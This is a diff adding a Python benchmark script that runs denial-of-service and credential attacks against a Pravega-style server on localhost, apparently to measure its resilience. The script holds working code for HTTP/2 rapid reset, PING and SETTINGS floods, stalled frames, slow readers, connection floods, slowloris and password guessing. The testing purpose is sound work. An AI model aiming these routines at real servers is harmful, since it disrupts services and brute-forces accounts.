@@ -1,0 +1,426 @@
+"""The attacks of bench/hostile.py (issue 32), each run in a process of its own so that the
+attacker's CPU is not the bench's probe loop (the attack routines are those of the tests under
+tests/e2e/test_hostile_*.py and tests/security/test_hostile_passwords.py, copied: they are private
+to those files).
+
+    .venv/bin/python -m bench._attacks <attack> <port> [--scale 1.0] [--limit-s 120]
+
+It prints "ready" once the attack is under way, keeps it up until its standard input closes (or
+`--limit-s` has passed), then prints one JSON line: what the server did to it (connections cut
+off, refused, answers by status).
+"""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import base64
+import contextlib
+import json
+import socket
+import statistics
+import struct
+import sys
+import threading
+import time
+from collections.abc import Awaitable, Callable, Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+
+from grpclib.client import Channel
+from grpclib.exceptions import GRPCError
+from grpclib.protocol import H2Protocol
+from hpack import Encoder
+
+from app.api.grpc.proto import controller_pb2 as pb
+from app.api.grpc.proto.controller_grpc import ControllerServiceStub
+from app.segmentstore.wire import commands as wc
+from app.segmentstore.wire.codec import encode
+
+Outcome = dict[str, Any]
+
+# --- HTTP/2 on the gRPC port (tests/e2e/test_hostile_h2.py) ------------------------------------
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
+END_HEADERS = 0x4
+CANCEL, ENHANCE_YOUR_CALM = 0x8, 0xB
+H2_PATH = "/io.pravega.controller.stream.api.grpc.v1.ControllerService/getControllerServerList"
+# The issue's measurement: 50,000 streams opened and cancelled on one connection.
+RAPID_RESET_STREAMS = 50_000
+CONTROL_FRAMES = 200_000
+SEND_BYTES = 256 * 1024
+BATCH_STREAMS = 500
+
+
+def _frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
+    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream_id) + payload
+
+
+@dataclass
+class _H2Connection:
+    goaway_code: int | None = None
+    closed_by_server: bool = False
+    done: threading.Event = field(default_factory=threading.Event)
+
+
+def _read_until_closed(sock: socket.socket, conn: _H2Connection) -> None:
+    buffer = b""
+    try:
+        while True:
+            chunk = sock.recv(65536)
+            if not chunk:
+                conn.closed_by_server = True
+                return
+            buffer += chunk
+            while len(buffer) >= 9:
+                length = int.from_bytes(buffer[:3], "big")
+                if len(buffer) < 9 + length:
+                    break
+                kind, payload = buffer[3], buffer[9 : 9 + length]
+                buffer = buffer[9 + length :]
+                if kind == GOAWAY and conn.goaway_code is None:
+                    conn.goaway_code = struct.unpack("!II", payload[:8])[1]
+    except OSError:
+        conn.closed_by_server = True
+    finally:
+        conn.done.set()
+
+
+def _h2_connection(port: int, chunks: Iterator[bytes | memoryview], stop: threading.Event) -> _H2Connection:
+    """Sends `chunks` on one connection as fast as the socket takes them, until the server closes
+    it (or `stop`); blocking, for a thread."""
+    conn = _H2Connection()
+    sock = socket.create_connection(("127.0.0.1", port))
+    reader = threading.Thread(target=_read_until_closed, args=(sock, conn), daemon=True)
+    reader.start()
+    try:
+        sock.sendall(PREFACE + _frame(SETTINGS, 0, 0))
+        for chunk in chunks:
+            if conn.done.is_set() or stop.is_set():
+                break
+            sock.sendall(chunk)
+        while not conn.done.wait(0.1) and not stop.is_set():
+            pass
+    except OSError:
+        conn.done.wait(5.0)
+    finally:
+        sock.close()
+        reader.join(timeout=5)
+    return conn
+
+
+def _rapid_reset_payload(streams: int) -> bytes:
+    encoder = Encoder()
+    headers = [
+        (":method", "POST"),
+        (":scheme", "http"),
+        (":path", H2_PATH),
+        (":authority", "127.0.0.1"),
+        ("content-type", "application/grpc"),
+        ("te", "trailers"),
+    ]
+    first = encoder.encode(headers)
+    # After the first block every header is in the dynamic table: each later block is the same.
+    repeated = encoder.encode(headers)
+    parts = []
+    for n in range(streams):
+        stream_id = 2 * n + 1
+        parts.append(_frame(HEADERS, END_HEADERS, stream_id, first if n == 0 else repeated))
+        parts.append(_frame(RST_STREAM, 0, stream_id, struct.pack("!I", CANCEL)))
+    return b"".join(parts)
+
+
+def _h2_attack(port: int, payload: bytes, stop: threading.Event) -> Outcome:
+    """New connections one after another, each sending `payload`, until `stop`."""
+    view = memoryview(payload)
+    connections: list[_H2Connection] = []
+    while not stop.is_set():
+        chunks = (view[i : i + SEND_BYTES] for i in range(0, len(view), SEND_BYTES))
+        connections.append(_h2_connection(port, chunks, stop))
+    return {
+        "connections": len(connections),
+        "goaway_enhance_your_calm": sum(c.goaway_code == ENHANCE_YOUR_CALM for c in connections),
+        "closed_by_server": sum(c.closed_by_server for c in connections),
+    }
+
+
+async def rapid_reset(port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event) -> Outcome:
+    payload = _rapid_reset_payload(RAPID_RESET_STREAMS)
+    return await _in_thread(lambda halt: _h2_attack(port, payload, halt), ready, stop)
+
+
+async def ping_flood(port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event) -> Outcome:
+    payload = _frame(PING, 0, 0, b"12345678") * CONTROL_FRAMES
+    return await _in_thread(lambda halt: _h2_attack(port, payload, halt), ready, stop)
+
+
+async def settings_flood(port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event) -> Outcome:
+    payload = _frame(SETTINGS, 0, 0) * CONTROL_FRAMES
+    return await _in_thread(lambda halt: _h2_attack(port, payload, halt), ready, stop)
+
+
+async def _in_thread(
+    attack: Callable[[threading.Event], Outcome], ready: Callable[[], None], stop: asyncio.Event
+) -> Outcome:
+    halt = threading.Event()
+    running = asyncio.ensure_future(asyncio.to_thread(attack, halt))
+    ready()
+    await stop.wait()
+    halt.set()
+    return await running
+
+
+# --- the store port (tests/e2e/test_hostile_store_port.py) ------------------------------------
+
+STALLED_FRAMES = 40
+SLOW_READERS = 100
+READS_PER_SLOW_READER = 50
+# What the slow readers read: bench/hostile.py writes 8 MiB to it before the baseline.
+BIG_SEGMENT = "hostile/bench/big.#epoch.0"
+IDLE_CONNECTIONS = 1100
+
+
+def _hello() -> bytes:
+    return encode(wc.Hello(wc.WIRE_VERSION, wc.OLDEST_COMPATIBLE_VERSION))
+
+
+async def _stalled_frame(port: int, hello: bool) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+    """A header announcing Pravega's largest frame, all of it but 100 bytes, then nothing."""
+    reader, writer = await asyncio.open_connection("127.0.0.1", port)
+    if hello:
+        writer.write(_hello())
+    writer.write(struct.pack(">ii", wc.UpdateTableEntries.TYPE, wc.MAX_WIRECOMMAND_SIZE))
+    chunk = bytes(1 << 20)
+    left = wc.MAX_WIRECOMMAND_SIZE - 100
+    with contextlib.suppress(ConnectionError):
+        while left > 0:
+            writer.write(chunk[: min(left, len(chunk))])
+            left -= len(chunk)
+            await writer.drain()
+    return reader, writer
+
+
+async def _ended(reader: asyncio.StreamReader, timeout_s: float) -> bool:
+    """Whether the server has ended the connection (within `timeout_s`), whatever it sent before."""
+    try:
+        async with asyncio.timeout(timeout_s):
+            while await reader.read(1 << 20):
+                pass
+    except TimeoutError:
+        return False
+    except ConnectionError:
+        return True
+    return True
+
+
+async def _count_ended(connections: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]]) -> int:
+    ended = await asyncio.gather(*(_ended(reader, 0.2) for reader, _ in connections))
+    for _, writer in connections:
+        writer.close()
+    return sum(ended)
+
+
+async def stalled_frames(port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event) -> Outcome:
+    count = max(2, round(STALLED_FRAMES * scale))
+    connections = await asyncio.gather(*(_stalled_frame(port, hello=n % 2 == 1) for n in range(count)))
+    ready()
+    await stop.wait()
+    return {
+        "connections": count,
+        "before_hello": count - count // 2,
+        "ended_by_server": await _count_ended(connections),
+    }
+
+
+async def _slow_reader(port: int, requests: int) -> socket.socket:
+    """Asks for `requests` 2 MiB reads and never reads a byte (a tiny receive window: the replies
+    stay queued in the server, not in the kernel)."""
+    loop = asyncio.get_running_loop()
+    sock = socket.socket()
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+    sock.setblocking(False)
+    await loop.sock_connect(sock, ("127.0.0.1", port))
+    asks = [_hello()] + [encode(wc.ReadSegment(BIG_SEGMENT, 0, 2 << 20, "", n)) for n in range(requests)]
+    await loop.sock_sendall(sock, b"".join(asks))
+    return sock
+
+
+def _sock_ended(sock: socket.socket) -> bool:
+    try:
+        while sock.recv(1 << 20):
+            pass
+    except BlockingIOError:
+        return False
+    except ConnectionError:
+        return True
+    return True
+
+
+async def slow_readers(port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event) -> Outcome:
+    count = max(2, round(SLOW_READERS * scale))
+    socks = await asyncio.gather(*(_slow_reader(port, READS_PER_SLOW_READER) for _ in range(count)))
+    ready()
+    await stop.wait()
+    ended = sum(_sock_ended(sock) for sock in socks)
+    for sock in socks:
+        sock.close()
+    return {"connections": count, "reads_asked": count * READS_PER_SLOW_READER, "ended_by_server": ended}
+
+
+async def _open(port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
+    # Past the listener's backlog a connect waits for ever: each is given a moment.
+    with contextlib.suppress(OSError, TimeoutError):
+        async with asyncio.timeout(2.0):
+            return await asyncio.open_connection("127.0.0.1", port)
+    return None
+
+
+async def idle_flood(port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event) -> Outcome:
+    """Connections that never send a byte (a store port or a REST port alike)."""
+    count = max(2, round(IDLE_CONNECTIONS * scale))
+    opened = [c for c in await asyncio.gather(*(_open(port) for _ in range(count))) if c is not None]
+    refused_at_once = sum(await asyncio.gather(*(_ended(reader, 0.5) for reader, _ in opened)))
+    ready()
+    await stop.wait()
+    return {
+        "tried": count,
+        "connected": len(opened),
+        "ended_at_once": refused_at_once,
+        "ended_by_server": await _count_ended(opened),
+    }
+
+
+# --- the REST port (tests/e2e/test_hostile_rest.py) --------------------------------------------
+
+SLOWLORIS = 200
+
+
+async def _slowloris(port: int, stop: asyncio.Event) -> bool:
+    """Sends a request's headers one byte a second until `stop`; whether the server closed first."""
+    try:
+        reader, writer = await asyncio.open_connection("127.0.0.1", port)
+    except OSError:
+        return True
+    request = b"GET /v1/health/readiness HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 10_000
+    try:
+        for byte in request:
+            if stop.is_set():
+                return False
+            writer.write(bytes([byte]))
+            await writer.drain()
+            with contextlib.suppress(TimeoutError):
+                async with asyncio.timeout(1.0):
+                    if await reader.read(1) == b"":
+                        return True
+        return False
+    except ConnectionError:
+        return True
+    finally:
+        writer.close()
+
+
+async def slowloris(port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event) -> Outcome:
+    count = max(2, round(SLOWLORIS * scale))
+    trickles = [asyncio.create_task(_slowloris(port, stop)) for _ in range(count)]
+    ready()
+    await stop.wait()
+    return {"connections": count, "ended_by_server": sum(await asyncio.gather(*trickles))}
+
+
+# --- password guessing (tests/security/test_hostile_passwords.py) ------------------------------
+
+# The attacker's loopback address (Linux answers the whole 127/8), the probe's is 127.0.0.1.
+ATTACKER_ADDRESS = "127.0.0.2"
+GUESSES_IN_FLIGHT = 64
+GUESS_PAUSE_S = 0.05
+GUESSED_ACCOUNT = "victim"
+
+
+class _BoundChannel(Channel):
+    """A grpclib channel whose connection leaves from `local_host` (grpclib has no option)."""
+
+    def __init__(self, host: str, port: int, local_host: str) -> None:
+        super().__init__(host, port)
+        self._local_host = local_host
+
+    async def _create_connection(self) -> H2Protocol:
+        _, protocol = await self._loop.create_connection(
+            self._protocol_factory, self._host, self._port, local_addr=(self._local_host, 0)
+        )
+        return protocol
+
+
+async def password_guessing(
+    port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event
+) -> Outcome:
+    channel = _BoundChannel("127.0.0.1", port, ATTACKER_ADDRESS)
+    stub = ControllerServiceStub(channel)
+    latencies: dict[str, list[float]] = {}
+    counter = 0
+
+    async def guesser() -> None:
+        nonlocal counter
+        while True:
+            counter += 1
+            token = base64.b64encode(f"{GUESSED_ACCOUNT}:guess-{counter}".encode()).decode()
+            started = time.perf_counter()
+            try:
+                await stub.checkScopeExists(
+                    pb.ScopeInfo(scope="guarded"), metadata={"authorization": "Basic " + token}
+                )
+                status = "OK"
+            except GRPCError as exc:
+                status = exc.status.name
+            latencies.setdefault(status, []).append(time.perf_counter() - started)
+            await asyncio.sleep(GUESS_PAUSE_S)
+
+    guessers = [asyncio.create_task(guesser()) for _ in range(max(2, round(GUESSES_IN_FLIGHT * scale)))]
+    ready()
+    await stop.wait()
+    for task in guessers:  # calls still waiting are abandoned, as an attacker would
+        task.cancel()
+    await asyncio.gather(*guessers, return_exceptions=True)
+    channel.close()
+    return {
+        status: f"{len(values)} (p50 {statistics.median(values) * 1000:.0f} ms)"
+        for status, values in sorted(latencies.items())
+    }
+
+
+Attack = Callable[[int, float, Callable[[], None], asyncio.Event], Awaitable[Outcome]]
+ATTACKS: dict[str, Attack] = {
+    "rapid-reset": rapid_reset,
+    "ping-flood": ping_flood,
+    "settings-flood": settings_flood,
+    "stalled-frames": stalled_frames,
+    "slow-readers": slow_readers,
+    "idle-flood": idle_flood,
+    "slowloris": slowloris,
+    "password-guessing": password_guessing,
+}
+
+
+async def main(name: str, port: int, scale: float, limit_s: float) -> None:
+    loop = asyncio.get_running_loop()
+    stop = asyncio.Event()
+    # The bench closes our standard input to end the attack.
+    threading.Thread(
+        target=lambda: (sys.stdin.read(), loop.call_soon_threadsafe(stop.set)), daemon=True
+    ).start()
+    loop.call_later(limit_s, stop.set)
+    outcome = await ATTACKS[name](port, scale, lambda: print("ready", flush=True), stop)
+    print(json.dumps(outcome), flush=True)
+
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("attack", choices=sorted(ATTACKS))
+    parser.add_argument("port", type=int)
+    parser.add_argument("--scale", type=float, default=1.0, help="connections, as a share of the tests'")
+    parser.add_argument("--limit-s", type=float, default=120.0)
+    args = parser.parse_args()
+    asyncio.run(main(args.attack, args.port, args.scale, args.limit_s))
